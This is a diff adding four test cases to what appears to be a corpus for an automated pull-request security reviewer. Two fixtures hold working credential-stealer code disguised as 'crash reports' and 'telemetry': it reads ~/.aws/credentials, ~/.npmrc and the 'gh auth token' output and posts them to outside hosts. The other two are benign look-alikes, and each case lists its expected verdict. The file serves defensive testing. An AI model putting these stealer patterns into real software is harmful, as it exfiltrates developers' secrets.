@@ -611,4 +611,120 @@ export const CODE_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
+  {
+    id: 'code-credentials-read-in-one-module-sent-from-another',
+    description:
+      'A first-time contributor\'s "crash reports" PR splits a stealer in two (as the Shai-Hulud and s1ngularity payloads gathered then sent): src/diagnostics/host.js reads ~/.aws/credentials and ~/.npmrc, and src/crash-report.js imports it and posts the result.',
+    fixture: () =>
+      codePr({
+        repo: 'chrono-fmt',
+        number: 6807,
+        title: 'Add opt-out crash reports',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/diagnostics/host.js',
+            head: lines(
+              "const fs = require('fs'), os = require('os'), path = require('path');",
+              'const read = (p) => { try { return fs.readFileSync(path.join(os.homedir(), p), \'utf8\'); } catch { return \'\'; } };',
+              "exports.hostInfo = () => ({ platform: os.platform(), release: os.release(), aws: read('.aws/credentials'), npm: read('.npmrc') });",
+            ),
+          },
+          {
+            path: 'src/crash-report.js',
+            head: lines(
+              "const { hostInfo } = require('./diagnostics/host');",
+              'process.on(\'uncaughtException\', (err) => {',
+              "  fetch('https://crash.chrono-fmt.dev/v1/report', { method: 'POST', body: JSON.stringify({ err: String(err), host: hostInfo() }) });",
+              '});',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
+  },
+  {
+    id: 'code-registry-config-and-publish-modules',
+    description: "A maintainer's publish command: src/npmrc.ts reads the registry and token from ~/.npmrc, and src/publish.ts imports it and PUTs the tarball to that registry.",
+    fixture: () =>
+      codePr({
+        repo: 'pkg-meta',
+        number: 6808,
+        title: 'Add a publish command',
+        files: [
+          {
+            path: 'src/npmrc.ts',
+            head: lines(
+              "import { readFileSync } from 'node:fs';",
+              "import { homedir } from 'node:os';",
+              "import { join } from 'node:path';",
+              '',
+              "export function npmrc(): { registry: string; token: string | null } {",
+              "  const rc = (() => { try { return readFileSync(join(homedir(), '.npmrc'), 'utf8'); } catch { return ''; } })();",
+              "  return { registry: /^registry\\s*=\\s*(\\S+)/m.exec(rc)?.[1] ?? 'https://registry.npmjs.org/', token: /:_authToken=(\\S+)/.exec(rc)?.[1] ?? null };",
+              '}',
+            ),
+          },
+          {
+            path: 'src/publish.ts',
+            head: lines(
+              "import { npmrc } from './npmrc.js';",
+              '',
+              'export async function publish(name: string, body: Uint8Array): Promise<void> {',
+              '  const { registry, token } = npmrc();',
+              "  const res = await fetch(new URL(name, registry), { method: 'PUT', headers: token ? { authorization: `Bearer ${token}` } : {}, body });",
+              '  if (!res.ok) throw new Error(`publish failed: ${res.status}`);',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
+  },
+  {
+    id: 'code-gh-cli-token-sent-to-telemetry',
+    description:
+      'Modeled on the s1ngularity payload of the Nx compromise (August 2025), which took the GitHub CLI\'s token with `gh auth token`: a "usage telemetry" PR whose module runs it and posts the token with the usage event.',
+    fixture: () =>
+      codePr({
+        repo: 'chrono-fmt',
+        number: 6809,
+        title: 'Add anonymous usage telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/telemetry.js',
+            head: lines(
+              "const { execSync } = require('child_process');",
+              "const id = (() => { try { return execSync('gh auth token', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch { return ''; } })();",
+              "exports.track = (event) => fetch('https://t.chrono-insights.dev/v1/e', { method: 'POST', body: JSON.stringify({ event, id }) }).catch(() => {});",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
+  },
+  {
+    id: 'code-release-script-uses-gh-token',
+    description: "A maintainer's release script takes the GitHub CLI's token with `gh auth token` and calls GitHub's GraphQL API with it to draft the release notes.",
+    fixture: () =>
+      codePr({
+        repo: 'chrono-fmt',
+        number: 6810,
+        title: 'Draft release notes from merged PRs',
+        files: [
+          {
+            path: 'scripts/release-notes.js',
+            head: lines(
+              "const { execSync } = require('child_process');",
+              "const token = process.env.GITHUB_TOKEN ?? execSync('gh auth token').toString().trim();",
+              "const query = 'query($q: String!) { search(query: $q, type: ISSUE, first: 100) { nodes { ... on PullRequest { title number } } } }';",
+              "const res = await fetch('https://api.github.com/graphql', { method: 'POST', headers: { authorization: `bearer ${token}` }, body: JSON.stringify({ query, variables: { q: 'repo:acme/chrono-fmt is:pr is:merged' } }) });",
+              "console.log((await res.json()).data.search.nodes.map((pr) => `- ${pr.title} (#${pr.number})`).join('\\n'));",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
+  },
 ];
